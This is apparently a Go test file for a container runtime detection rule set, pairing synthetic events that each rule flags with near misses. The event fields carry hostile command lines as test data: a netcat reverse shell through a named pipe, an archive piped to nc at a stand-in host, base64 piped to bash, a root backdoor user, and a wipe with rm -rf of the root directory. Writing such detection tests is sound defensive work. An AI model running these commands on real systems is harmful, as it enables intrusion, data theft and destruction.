package rules

import (
	"net/netip"
	"testing"

	"github.com/driftwatch/driftwatch/event"
)

func defaultCases() []falcoCase {
	cshell := func(p *event.Process) *event.Process { return inCtr(lineage(p, proc("sh", "/bin/sh")), ctr()) }
	dup := func(typ event.FDType, name string) *event.Enriched {
		e := sysEv(cshell(proc("bash", "/bin/bash", "bash", "-i")), event.SysDup2, 0)
		e.Fd, e.Fd2 = 3, 0
		e.FD = &event.FD{Num: 3, Type: typ, Name: "10.1.2.3:40000->203.0.113.9:4444", Proto: event.ProtoTCP,
			Local: netip.MustParseAddrPort("10.1.2.3:40000"), Remote: netip.MustParseAddrPort("203.0.113.9:4444")}
		if typ == event.FDPipe {
			e.FD.Name = "pipe:[1234]"
		}
		_ = name
		return e
	}
	accept := func(client string, port uint16) *event.Enriched {
		e := sysEv(inCtr(proc("nginx", "/usr/sbin/nginx"), ctr()), event.SysAccept4, 7)
		e.Family, e.Proto = event.AFInet, event.ProtoTCP
		e.Src = netip.AddrPortFrom(netip.MustParseAddr(client), 50000)
		e.Dst = netip.AddrPortFrom(netip.MustParseAddr("10.1.2.3"), port)
		return e
	}
	accept6 := func(client string, port uint16) *event.Enriched {
		e := sysEv(inCtr(proc("postgres", "/usr/lib/postgresql/15/bin/postgres"), ctr()), event.SysAccept4, 7)
		e.Family, e.Proto = event.AFInet6, event.ProtoTCP
		e.Src = netip.AddrPortFrom(netip.MustParseAddr(client), 50000)
		e.Dst = netip.AddrPortFrom(netip.MustParseAddr("::1"), port)
		return e
	}
	setuid := func(parentUid uint32) *event.Enriched {
		par := proc("bash", "/bin/bash")
		par.Euid = parentUid
		p := lineage(proc("exploit", "/tmp/exploit"), par)
		e := sysEv(p, event.SysSetuid, 0)
		e.Euid, e.Uid = 0, 0
		return e
	}
	chmod := func(mode uint32) *event.Enriched {
		e := sysEv(lineage(proc("chmod", "/bin/chmod"), proc("bash", "/bin/bash")), event.SysFchmodat, 0)
		e.Path, e.Mode = []byte("/tmp/rootshell"), mode
		return e
	}
	ptrace := func(req uint32) *event.Enriched {
		e := sysEv(proc("injector", "/tmp/injector"), event.SysPtrace, 0)
		e.Flags, e.Arg3 = req, 1
		return e
	}
	cases := []falcoCase{
		{"Unexpected outbound connection",
			func() *event.Enriched { return connectEv(cshell(proc("curl", "/usr/bin/curl")), "198.51.100.7", 8081) },
			func() *event.Enriched { return connectEv(cshell(proc("curl", "/usr/bin/curl")), "198.51.100.7", 443) }},
		{"Unexpected inbound connection",
			func() *event.Enriched { return accept("198.51.100.7", 2222) },
			func() *event.Enriched { return accept("198.51.100.7", 443) }},
		// An exec probe inside the container (pg_isready) connects over
		// IPv6 loopback: not inbound from outside (containers-v2 dev).
		{"Unexpected inbound connection",
			func() *event.Enriched { return accept6("2001:db8::7", 5432) },
			func() *event.Enriched { return accept6("::1", 5432) }},
		// PostgreSQL's statistics socket at every start (containers-v2
		// dev): a datagram connect to the unspecified address (the local
		// host) and one dissolving the association (no peer).
		{"Unexpected outbound connection",
			func() *event.Enriched {
				return connectEv(inCtr(proc("postgres", "/usr/lib/postgresql/15/bin/postgres"), ctr()), "198.51.100.7", 5432)
			},
			func() *event.Enriched {
				return connectEv(inCtr(proc("postgres", "/usr/lib/postgresql/15/bin/postgres"), ctr()), "::", 5432)
			}},
		{"Unexpected outbound connection",
			func() *event.Enriched {
				return connectEv(inCtr(proc("postgres", "/usr/lib/postgresql/15/bin/postgres"), ctr()), "0.0.0.1", 5432)
			},
			func() *event.Enriched {
				e := connectEv(inCtr(proc("postgres", "/usr/lib/postgresql/15/bin/postgres"), ctr()), "0.0.0.0", 5432)
				e.Dst = netip.AddrPort{}
				return e
			}},
		{"Crypto miner stratum connection",
			func() *event.Enriched {
				return connectEv(inCtr(proc("xmrig", "/tmp/xmrig", "xmrig", "-o", "pool:3333"), ctr()), "198.51.100.7", 3333)
			},
			func() *event.Enriched {
				return connectEv(inCtr(proc("java", "/usr/bin/java", "java", "-jar", "app.jar"), ctr()), "10.0.0.7", 8080)
			}},
		{"Outbound connection to a stratum port",
			func() *event.Enriched {
				return connectEv(inCtr(proc("nc", "/bin/busybox", "nc", "-w", "3", "10.0.0.7", "3333"), ctr()), "10.0.0.7", 3333)
			},
			func() *event.Enriched {
				return connectEv(inCtr(proc("nc", "/bin/busybox", "nc", "10.0.0.7", "8080"), ctr()), "10.0.0.7", 8080)
			}},
		{"Container escape attempt refused",
			func() *event.Enriched {
				e := sysEv(cshell(proc("mount", "/bin/busybox", "mount", "-t", "cgroup", "cgroup", "/tmp/cgrp")), event.SysMount, -1)
				e.Path, e.Path2 = []byte("cgroup"), []byte("/tmp/cgrp")
				return e
			},
			func() *event.Enriched {
				e := sysEv(proc("mount", "/bin/mount", "mount", "/dev/sda1", "/mnt"), event.SysMount, -1)
				e.Path, e.Path2 = []byte("/dev/sda1"), []byte("/mnt")
				return e
			}},
		{"Scanner or attack tool launched",
			func() *event.Enriched {
				return execEv(cshell(proc("nmap", "/usr/bin/nmap", "nmap", "-sS", "10.0.0.0/24")))
			},
			func() *event.Enriched { return execEv(cshell(proc("nc", "/usr/bin/nc", "nc", "-z", "db", "5432"))) }},
		{"Credential file read", catShadow,
			func() *event.Enriched {
				p := lineage(proc("sudo", "/usr/bin/sudo", "sudo", "id"), proc("bash", "/usr/bin/bash"))
				return openEv(p, "/etc/shadow", 0)
			}},
		{"Kubernetes service account token read",
			func() *event.Enriched {
				return openEv(cshell(proc("cat", "/bin/cat")), "/var/run/secrets/kubernetes.io/serviceaccount/token", 0)
			},
			func() *event.Enriched {
				return openEv(cshell(proc("cat", "/bin/cat")), "/var/run/secrets/kubernetes.io/serviceaccount/namespace", 0)
			}},
		{"Credential file written",
			func() *event.Enriched {
				return openEv(lineage(proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd")), "/root/.ssh/authorized_keys", oWronly|oAppend)
			},
			func() *event.Enriched {
				return openEv(lineage(proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd")), "/root/.ssh/known_hosts", oWronly|oAppend)
			}},
		{"Non-root process became root", func() *event.Enriched { return setuid(1000) }, func() *event.Enriched { return setuid(0) }},
		{"Setuid or setgid bit set", func() *event.Enriched { return chmod(0o4755) }, func() *event.Enriched { return chmod(0o755) }},
		{"Capabilities changed in container",
			func() *event.Enriched { return sysEv(cshell(proc("python3", "/usr/bin/python3")), event.SysCapset, 0) },
			func() *event.Enriched { return sysEv(cshell(proc("runc", "/usr/bin/runc")), event.SysCapset, 0) }},
		// The runtime's init stage (its exec was outside the container)
		// and a privilege dropper starting the service (containers-v2
		// dev); a process of the container that renamed itself like the
		// runtime still fires.
		{"Capabilities changed in container",
			func() *event.Enriched { return sysEv(cshell(proc("runc:[0:PARENT]", "/tmp/x")), event.SysCapset, 0) },
			func() *event.Enriched { return sysEv(inCtr(proc("runc:[0:PARENT]", ""), ctr()), event.SysCapset, 0) }},
		{"Capabilities changed in container",
			func() *event.Enriched { return sysEv(cshell(proc("perl", "/usr/bin/perl")), event.SysCapset, 0) },
			func() *event.Enriched {
				return sysEv(inCtr(proc("setpriv", "/usr/bin/setpriv", "setpriv", "--reuid=postgres", "postgres"), ctr()), event.SysCapset, 0)
			}},
		{"Process attached with ptrace", func() *event.Enriched { return ptrace(16) }, func() *event.Enriched { return ptrace(1) }},
		{"Mount in container",
			func() *event.Enriched {
				e := sysEv(cshell(proc("mount", "/bin/mount")), event.SysMount, 0)
				e.Path, e.Path2 = []byte("/dev/sda1"), []byte("/mnt")
				return e
			},
			func() *event.Enriched {
				// On the host, not in a container (a refused mount in a
				// container is "Container escape attempt refused").
				e := sysEv(proc("mount", "/bin/mount"), event.SysMount, 0)
				e.Path, e.Path2 = []byte("/dev/sda1"), []byte("/mnt")
				return e
			}},
		// runc mounting the container's root, proc and masked paths at
		// every container start (containers-v2 dev: 43 alerts per start).
		{"Mount in container",
			func() *event.Enriched {
				e := sysEv(inCtr(proc("runc:[0:PARENT]", "/tmp/.x/runc"), ctr()), event.SysMount, 0)
				e.Path, e.Path2 = []byte("proc"), []byte("/proc")
				return e
			},
			func() *event.Enriched {
				e := sysEv(inCtr(proc("runc:[0:PARENT]", "memfd:runc_cloned:/proc/self/exe"), ctr()), event.SysMount, 0)
				e.Path, e.Path2 = []byte("proc"), []byte("/proc")
				return e
			}},
		{"Container escape attempt refused",
			func() *event.Enriched {
				e := sysEv(inCtr(proc("runc:[1:CHILD]", "/tmp/runc"), ctr()), event.SysMount, -2)
				e.Path2 = []byte("/proc/acpi")
				return e
			},
			func() *event.Enriched {
				e := sysEv(inCtr(proc("runc:[1:CHILD]", ""), ctr()), event.SysMount, -2)
				e.Path2 = []byte("/proc/acpi")
				return e
			}},
		{"Kernel module loaded from container",
			func() *event.Enriched { return sysEv(cshell(proc("insmod", "/sbin/insmod")), event.SysFinitModule, 0) },
			func() *event.Enriched { return sysEv(proc("modprobe", "/sbin/modprobe"), event.SysFinitModule, 0) }},
		{"Write below /proc/sys from container",
			func() *event.Enriched {
				return openEv(cshell(proc("sh", "/bin/sh")), "/proc/sys/kernel/core_pattern", oWronly)
			},
			func() *event.Enriched {
				return openEv(cshell(proc("sh", "/bin/sh")), "/proc/sys/kernel/core_pattern", 0)
			}},
		{"Cgroup release_agent written",
			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/tmp/cg/release_agent", oWronly) },
			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/tmp/cg/release_agent", 0) }},
		{"Archive sent with network tool",
			func() *event.Enriched {
				p := inCtr(lineage(proc("nc", "/usr/bin/nc", "nc", "198.51.100.7", "4444"), proc("sh", "/bin/sh", "sh", "-c", "tar czf - /data | nc 198.51.100.7 4444")), ctr())
				return execEv(p)
			},
			func() *event.Enriched {
				p := inCtr(lineage(proc("curl", "/usr/bin/curl", "curl", "https://example.com/health"), proc("sh", "/bin/sh", "sh", "-c", "curl https://example.com/health")), ctr())
				return execEv(p)
			}},
		{"Reverse shell", func() *event.Enriched { return dup(event.FDIPv4, "") }, func() *event.Enriched { return dup(event.FDPipe, "") }},
		{"Named pipe used for a shell relay",
			func() *event.Enriched {
				return execEv(inCtr(lineage(proc("mkfifo", "/usr/bin/mkfifo", "mkfifo", "/tmp/f"),
					proc("sh", "/bin/sh", "sh", "-c", "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f")), ctr()))
			},
			func() *event.Enriched {
				return execEv(inCtr(lineage(proc("mkfifo", "/usr/bin/mkfifo", "mkfifo", "/tmp/f"), proc("make", "/usr/bin/make", "make", "test")), ctr()))
			}},
		{"Fileless execution from memfd",
			func() *event.Enriched {
				p := lineage(proc("3", "memfd:x", "3"), proc("python3", "/usr/bin/python3"))
				p.ExeMemfd = true
				return execEv(p)
			},
			func() *event.Enriched {
				p := lineage(proc("runc", "memfd:runc_cloned:/proc/self/exe", "runc"), proc("containerd-shim", "/usr/bin/containerd-shim"))
				p.ExeMemfd = true
				return execEv(p)
			}},
		{"Drop and execute in container",
			func() *event.Enriched {
				p := cshell(proc("payload", "/tmp/payload"))
				p.ExeCtime = tNow - 10*second // created after the container started
				return execEv(p)
			},
			func() *event.Enriched {
				p := cshell(proc("ls", "/bin/ls"))
				p.ExeCtime = tNow - 86400*second
				return execEv(p)
			}},
		{"Interactive shell in container",
			func() *event.Enriched {
				p := inCtr(lineage(proc("bash", "/bin/bash"), proc("runc", "/usr/bin/runc")), ctr())
				p.Tty = 34816
				return execEv(p)
			},
			func() *event.Enriched {
				return execEv(inCtr(lineage(proc("bash", "/bin/bash"), proc("runc", "/usr/bin/runc")), ctr()))
			}},
		// A service's command-string shell on a terminal is not
		// interactive (containers-v2 dev); "-i" makes it so.
		{"Interactive shell in container",
			func() *event.Enriched {
				p := inCtr(lineage(proc("sh", "/bin/sh", "sh", "-i"), proc("python3", "/usr/bin/python3")), ctr())
				p.Tty = 34816
				return execEv(p)
			},
			func() *event.Enriched {
				p := inCtr(lineage(proc("sh", "/bin/sh", "sh", "-c", "getent hosts cache.internal"), proc("python3", "/usr/bin/python3")), ctr())
				p.Tty = 34816
				return execEv(p)
			}},
		{"Interactive shell in container",
			func() *event.Enriched {
				p := inCtr(lineage(proc("bash", "/bin/bash", "bash", "--norc"), proc("runc", "/usr/bin/runc")), ctr())
				p.Tty = 34816
				return execEv(p)
			},
			func() *event.Enriched {
				p := inCtr(lineage(proc("bash", "/bin/bash", "bash", "--norc", "-ec", "pg_dump shop | gzip"), proc("runc", "/usr/bin/runc")), ctr())
				p.Tty = 34816
				return execEv(p)
			}},
		{"Package manager in container",
			func() *event.Enriched {
				return execEv(cshell(proc("apt-get", "/usr/bin/apt-get", "apt-get", "install", "nmap")))
			},
			func() *event.Enriched {
				return execEv(lineage(proc("apt-get", "/usr/bin/apt-get", "apt-get", "update"), proc("bash", "/bin/bash")))
			}},
		{"Write below binary directory",
			func() *event.Enriched {
				return openEv(cshell(proc("curl", "/usr/bin/curl")), "/usr/local/bin/kubectl", oWronly|oCreat)
			},
			func() *event.Enriched {
				return openEv(cshell(proc("curl", "/usr/bin/curl")), "/usr/local/binaries/x", oWronly|oCreat)
			}},
		{"Write below /etc in container",
			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/etc/crontab", oWronly|oTrunc) },
			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/etc/crontab", 0) }},
	}
	return append(cases, behaviourCases()...)
}

// behaviourCases cover the rules for the behaviours Falco's rule sets name
// (issue 10): each fires on an event made for it, and stays quiet on a
// near miss chosen to be as close as the rule allows.
func behaviourCases() []falcoCase {
	cshell := func(p *event.Process) *event.Process { return inCtr(lineage(p, proc("sh", "/bin/sh")), ctr()) }
	under := func(p *event.Process, parent *event.Process) *event.Process { return inCtr(lineage(p, parent), ctr()) }
	hostExec := func(comm, exe string, args ...string) *event.Enriched {
		return execEv(lineage(proc(comm, exe, append([]string{comm}, args...)...), proc("bash", "/bin/bash")))
	}
	ctrExec := func(comm string, args ...string) *event.Enriched {
		return execEv(cshell(proc(comm, "/usr/bin/"+comm, append([]string{comm}, args...)...)))
	}
	pathEv := func(p *event.Process, nr uint16, path string) *event.Enriched {
		e := sysEv(p, nr, 0)
		e.Path = []byte(path)
		return e
	}
	chmodEv := func(mode uint32) *event.Enriched {
		e := pathEv(cshell(proc("chmod", "/bin/chmod")), event.SysFchmodat, "/tmp/payload")
		e.Mode = mode
		return e
	}
	socketEv := func(comm string, domain uint16) *event.Enriched {
		e := sysEv(cshell(proc(comm, "/usr/bin/"+comm)), event.SysSocket, 3)
		e.Family = domain
		return e
	}
	ptraceEv := func(parent string) *event.Enriched {
		e := sysEv(lineage(proc("sample", "/tmp/sample"), proc(parent, "/usr/bin/"+parent)), event.SysPtrace, 0)
		e.Flags = 0 // PTRACE_TRACEME
		return e
	}
	linkEv := func(nr uint16, target string) *event.Enriched {
		e := pathEv(cshell(proc("ln", "/bin/ln")), nr, target)
		e.Path2 = []byte("/tmp/x")
		return e
	}
	nsEv := func(comm string, nr uint16) *event.Enriched {
		e := sysEv(cshell(proc(comm, "/usr/bin/"+comm)), nr, 0)
		e.Flags = 0x20000000 // CLONE_NEWUTS
		return e
	}
	bpfEv := func(cmd uint64) *event.Enriched {
		e := sysEv(cshell(proc("loader", "/tmp/loader")), sysBpf, 4)
		e.Raw[0] = cmd
		return e
	}
	return []falcoCase{
		{"Execution from /dev/shm",
			func() *event.Enriched { return execEv(lineage(proc("x", "/dev/shm/x"), proc("bash", "/bin/bash"))) },
			func() *event.Enriched { return execEv(lineage(proc("x", "/dev/shmem/x"), proc("bash", "/bin/bash"))) }},
		{"Base64-decoded payload piped to a shell",
			func() *event.Enriched {
				return execEv(under(proc("sh", "/bin/sh", "sh"), proc("sh", "/bin/sh", "sh", "-c", "echo aWQK | base64 -d | sh")))
			},
			func() *event.Enriched {
				return execEv(under(proc("sh", "/bin/sh", "sh"), proc("sh", "/bin/sh", "sh", "-c", "echo aWQK | base64 -d > /tmp/id.txt; sh /opt/app/run.sh")))
			}},
		{"Remote file copy tool in container",
			func() *event.Enriched { return ctrExec("scp", "/data/db.sql", "user@198.51.100.7:") },
			func() *event.Enriched { return ctrExec("cp", "/data/db.sql", "/backup/") }},
		{"Kubernetes client tool in container",
			func() *event.Enriched { return ctrExec("kubectl", "get", "secrets", "-A") },
			func() *event.Enriched { return hostExec("kubectl", "/usr/bin/kubectl", "get", "pods") }},
		{"File made executable in container",
			func() *event.Enriched { return chmodEv(0o755) },
			func() *event.Enriched { return chmodEv(0o644) }},
		{"Process environment read from /proc",
			func() *event.Enriched {
				return openEv(cshell(proc("cat", "/bin/cat", "cat", "/proc/1/environ")), "/proc/1/environ", 0)
			},
			func() *event.Enriched { return openEv(cshell(proc("ps", "/bin/ps", "ps", "e")), "/proc/1/environ", 0) }},
		{"Shell configuration or history changed",
			func() *event.Enriched {
				return openEv(cshell(proc("sh", "/bin/sh", "sh", "-c", "echo x >> /root/.bashrc")), "/root/.bashrc", oWronly|oAppend)
			},
			func() *event.Enriched {
				return openEv(lineage(proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd")), "/root/.bash_history", oWronly|oAppend)
			}},
		{"Hidden file or directory created in container",
			func() *event.Enriched {
				return pathEv(cshell(proc("mkdir", "/bin/mkdir")), event.SysMkdir, "/tmp/.cache")
			},
			func() *event.Enriched {
				return pathEv(cshell(proc("mkdir", "/bin/mkdir")), event.SysMkdir, "/home/app/.cache")
			}},
		{"User management tool in container",
			func() *event.Enriched { return ctrExec("useradd", "-o", "-u", "0", "backdoor") },
			func() *event.Enriched {
				return execEv(under(proc("useradd", "/usr/sbin/useradd", "useradd", "-r", "nginx"), proc("dpkg", "/usr/bin/dpkg")))
			}},
		{"Search for private keys or passwords",
			func() *event.Enriched { return ctrExec("find", "/", "-name", "id_rsa") },
			func() *event.Enriched { return ctrExec("find", "/var/log", "-name", "*.log") }},
		{"Search for AWS credentials",
			func() *event.Enriched { return ctrExec("grep", "-r", "aws_secret_access_key", "/home") },
			func() *event.Enriched { return ctrExec("grep", "-r", "aws_region", "/home") }},
		{"Packet socket opened",
			func() *event.Enriched { return socketEv("sniffer", 17) },
			func() *event.Enriched { return socketEv("dhclient", 17) }},
		{"PTRACE_TRACEME anti-debugging",
			func() *event.Enriched { return ptraceEv("bash") },
			func() *event.Enriched { return ptraceEv("gdb") }},
		{"Bulk deletion",
			func() *event.Enriched { return ctrExec("rm", "-rf", "/var/") },
			func() *event.Enriched { return ctrExec("rm", "-rf", "/var/cache/app/tmp") }},
		{"System log cleared",
			func() *event.Enriched {
				return openEv(cshell(proc("sh", "/bin/sh", "sh", "-c", ": > /var/log/auth.log")), "/var/log/auth.log", oWronly|oCreat|oTrunc)
			},
			func() *event.Enriched {
				return openEv(cshell(proc("sh", "/bin/sh", "sh", "-c", "wc -l x > /var/log/batch.log")), "/var/log/batch.log", oWronly|oCreat|oTrunc)
			}},
		{"Link to a sensitive file created",
			func() *event.Enriched { return linkEv(event.SysSymlinkat, "/etc/shadow") },
			func() *event.Enriched { return linkEv(event.SysSymlinkat, "/etc/hostname") }},
		{"Namespace changed in container",
			func() *event.Enriched { return nsEv("unshare", event.SysUnshare) },
			func() *event.Enriched { return nsEv("runc:[1:CHILD]", event.SysUnshare) }},
		{"BPF program loaded",
			func() *event.Enriched { return bpfEv(5) },
			func() *event.Enriched { return bpfEv(1) }},
		{"Binary directory changed",
			func() *event.Enriched {
				return pathEv(cshell(proc("mkdir", "/bin/mkdir")), event.SysMkdirat, "/usr/local/bin/kit")
			},
			func() *event.Enriched {
				return pathEv(cshell(proc("mkdir", "/bin/mkdir")), event.SysMkdirat, "/usr/local/binaries")
			}},
		{"Cron job scheduled",
			func() *event.Enriched {
				return openEv(cshell(proc("sh", "/bin/sh")), "/var/spool/cron/crontabs/root", oWronly|oCreat|oTrunc)
			},
			func() *event.Enriched {
				return openEv(cshell(proc("sh", "/bin/sh")), "/var/spool/cron/crontabs/root", 0)
			}},
	}
}

func TestDefaultRulesFireAndMiss(t *testing.T) {
	rs := loadDefaults(t)
	// A miner's pool connection is also unexpected egress; both must fire.
	also := map[string][]string{
		"Crypto miner stratum connection": {"Unexpected outbound connection", "Outbound connection to a stratum port"},
		// The firing event writes /etc/crontab: also a cron job.
		"Write below /etc in container": {"Cron job scheduled"},
	}
	covered := map[string]bool{}
	for _, tc := range defaultCases() {
		covered[tc.rule] = true
		t.Run(tc.rule, func(t *testing.T) {
			want := append([]string{tc.rule}, also[tc.rule]...)
			if got := rs.Match(tc.fire()); !sameSet(got, want) {
				t.Errorf("firing event matched %q, want exactly %q", got, want)
			}
			if got := rs.Match(tc.miss()); len(got) != 0 {
				t.Errorf("near miss matched %q, want nothing", got)
			}
		})
	}
	for _, r := range rs.Rules() {
		if !covered[r.Name] {
			t.Errorf("default rule %q has no test case", r.Name)
		}
		if r.EventTypes == nil {
			t.Errorf("default rule %q runs for every event type", r.Name)
		}
	}
}

// The defaults and the stable set load together (no name clashes).
func TestDefaultsWithStableSet(t *testing.T) {
	rs, _, err := Load([]string{sharedRules(t)}, Options{IncludeDefault: true, Users: testUsers})
	if err != nil {
		t.Fatal(err)
	}
	got := rs.Match(catShadow())
	if !sameSet(got, []string{"Credential file read", "Read sensitive file untrusted"}) {
		t.Errorf("cat /etc/shadow matched %q", got)
	}
}

// Other paths into the behaviour rules: each variant must raise exactly
// its rule (fire) or nothing (miss).
func TestBehaviourRuleVariants(t *testing.T) {
	rs := loadDefaults(t)
	cshell := func(p *event.Process) *event.Process { return inCtr(lineage(p, proc("sh", "/bin/sh")), ctr()) }
	openMode := func(p *event.Process, path string, flags, mode uint32) *event.Enriched {
		e := openEv(p, path, flags)
		e.Mode = mode
		return e
	}
	unlink := func(comm, path string) *event.Enriched {
		e := sysEv(cshell(proc(comm, "/bin/"+comm)), event.SysUnlinkat, 0)
		e.Path = []byte(path)
		return e
	}
	exec := func(comm string, args ...string) *event.Enriched {
		return execEv(cshell(proc(comm, "/usr/bin/"+comm, append([]string{comm}, args...)...)))
	}
	rename := func(comm, from, to string) *event.Enriched {
		e := sysEv(cshell(proc(comm, "/bin/"+comm)), event.SysRenameat2, 0)
		e.Path, e.Path2 = []byte(from), []byte(to)
		return e
	}
	refused := func(nr uint16, comm string) *event.Enriched {
		return sysEv(cshell(proc(comm, "/usr/bin/"+comm)), nr, -1) // EPERM
	}
	cases := []struct {
		name string
		e    *event.Enriched
		want string // "" = no alert
	}{
		{"created executable", openMode(cshell(proc("wget", "/usr/bin/wget")), "/tmp/kworkerd", oWronly|oCreat, 0o755), "File made executable in container"},
		{"created non-executable", openMode(cshell(proc("wget", "/usr/bin/wget")), "/tmp/data", oWronly|oCreat, 0o644), ""},
		{"script from /dev/shm", exec("sh", "/dev/shm/x.sh"), "Execution from /dev/shm"},
		{"history truncated by shell", openEv(cshell(proc("sh", "/bin/sh")), "/root/.bash_history", oWronly|oTrunc), "Shell configuration or history changed"},
		{"history removed", unlink("rm", "/root/.bash_history"), "Shell configuration or history changed"},
		{"profile.d written on the host", openEv(lineage(proc("sh", "/bin/sh"), proc("bash", "/bin/bash")), "/etc/profile.d/x.sh", oWronly|oCreat), "Shell configuration or history changed"},
		{"other file removed", unlink("rm", "/root/notes.txt"), ""},
		{"auth.log removed", unlink("rm", "/var/log/auth.log"), "System log cleared"},
		{"app log removed", unlink("rm", "/var/log/app.log"), ""},
		{"journal vacuum", exec("journalctl", "--vacuum-time=1s"), "System log cleared"},
		{"hidden file in /tmp", openEv(cshell(proc("sh", "/bin/sh")), "/tmp/.s", oWronly|oCreat), "Hidden file or directory created in container"},
		{"hidden file read in /tmp", openEv(cshell(proc("sh", "/bin/sh")), "/tmp/.s", 0), ""},
		{"rm of /", exec("rm", "-rf", "--no-preserve-root", "/"), "Bulk deletion"},
		{"rm -r of everything", exec("rm", "-r", "/*"), "Bulk deletion"},
		{"rm without -r", exec("rm", "-f", "/tmp/orders.out"), ""},
		{"shred", exec("shred", "-u", "/data/db"), "Bulk deletion"},
		{"bpftool load", exec("bpftool", "prog", "load", "x.o", "/sys/fs/bpf/x"), "BPF program loaded"},
		{"bpftool show", exec("bpftool", "prog", "show"), ""},
		{"grep password", exec("grep", "-ri", "password", "/etc"), "Search for private keys or passwords"},
		{"python base64 to shell", execEv(inCtr(lineage(proc("bash", "/bin/bash", "bash"), proc("sh", "/bin/sh", "sh", "-c", "curl -s x | base64 --decode | bash")), ctr())), "Base64-decoded payload piped to a shell"},
		// Found with Falco's event-generator (docs/event-generator.md).
		{"shell -c of a /dev/shm script", exec("sh", "-c", "/dev/shm/x.sh"), "Execution from /dev/shm"},
		{"shell -c listing /dev/shm", exec("sh", "-c", "ls /dev/shm/"), ""},
		{"host syslog truncated through a mount", openEv(cshell(proc("sh", "/bin/sh")), "/host/var/log/syslog", oWronly|oCreat|oTrunc), "System log cleared"},
		{"host syslog appended through a mount", openEv(cshell(proc("sh", "/bin/sh")), "/host/var/log/syslog", oWronly|oCreat|oAppend), ""},
		{"app log named like a system log truncated elsewhere", openEv(cshell(proc("sh", "/bin/sh")), "/srv/app/app-syslog", oWronly|oCreat|oTrunc), ""},
		{"dotless history truncated", openEv(cshell(proc("app", "/usr/bin/app")), "/tmp/h/ash_history", oWronly|oCreat|oTrunc), "Shell configuration or history changed"},
		{"dotless history appended by its shell", openEv(cshell(proc("ash", "/bin/ash")), "/root/ash_history", oWronly|oCreat|oAppend), ""},
		{"setns refused in container", refused(event.SysSetns, "app"), "Container escape attempt refused"},
		{"setns refused for the runtime", refused(event.SysSetns, "runc:[2:INIT]"), ""},
		// runc exec (kubectl exec) makes runc the parent of what it starts.
		{"setns refused in a process runc exec started", func() *event.Enriched {
			return sysEv(inCtr(lineage(proc("app", "/usr/bin/app"), proc("runc", "/usr/sbin/runc")), ctr()), event.SysSetns, -1)
		}(), "Container escape attempt refused"},
		{"unshare refused in container", refused(event.SysUnshare, "unshare"), "Container escape attempt refused"},
		{"binary renamed in /bin", rename("mv", "/bin/true", "/bin/true.bak"), "Binary directory changed"},
		{"binary moved into /usr/bin", rename("mv", "/tmp/kworker", "/usr/bin/kworker"), "Binary directory changed"},
		{"binary directory changed by dpkg", rename("dpkg", "/usr/bin/true.dpkg-new", "/usr/bin/true"), ""},
		{"python bytecode cache", func() *event.Enriched {
			e := sysEv(cshell(proc("python3", "/usr/bin/python3")), event.SysMkdirat, 0)
			e.Path = []byte("/usr/lib/python3/dist-packages/__pycache__")
			return e
		}(), ""},
		{"file renamed in /tmp", rename("mv", "/tmp/a", "/tmp/b"), ""},
		{"binary removed from /usr/local/bin", unlink("rm", "/usr/local/bin/tool"), "Binary directory changed"},
		{"symlink to /etc", func() *event.Enriched {
			e := sysEv(cshell(proc("ln", "/bin/ln")), event.SysSymlinkat, 0)
			e.Path, e.Path2 = []byte("/etc"), []byte("/tmp/etc_link")
			return e
		}(), "Link to a sensitive file created"},
		{"symlink to /etc/localtime", func() *event.Enriched {
			e := sysEv(cshell(proc("ln", "/bin/ln")), event.SysSymlinkat, 0)
			e.Path, e.Path2 = []byte("/etc/localtime"), []byte("/tmp/tz")
			return e
		}(), ""},
		{"crontab run in a container", exec("crontab", "-l"), "Cron job scheduled"},
		{"crontab run on the host", execEv(lineage(proc("crontab", "/usr/bin/crontab", "crontab", "-e"), proc("bash", "/bin/bash"))), ""},
		{"crontab edited on the host", openEv(lineage(proc("crontab", "/usr/bin/crontab"), proc("bash", "/bin/bash")), "/var/spool/cron/crontabs/root", oWronly|oCreat|oTrunc), "Cron job scheduled"},
		{"cron.d file installed by dpkg", openEv(cshell(proc("dpkg", "/usr/bin/dpkg")), "/etc/cron.d/logrotate", oWronly|oCreat), ""},
		{"cron.daily script read", openEv(cshell(proc("run-parts", "/bin/run-parts")), "/etc/cron.daily/logrotate", 0), ""},
		{"link to shadow", func() *event.Enriched {
			e := sysEv(cshell(proc("ln", "/bin/ln")), event.SysLinkat, 0)
			e.Path, e.Path2 = []byte("/etc/shadow"), []byte("/tmp/s")
			return e
		}(), "Link to a sensitive file created"},
	}
	for _, tc := range cases {
		got := rs.Match(tc.e)
		want := []string{}
		if tc.want != "" {
			want = []string{tc.want}
		}
		if !sameSet(got, want) {
			t.Errorf("%s: matched %q, want %q", tc.name, got, want)
		}
	}
}
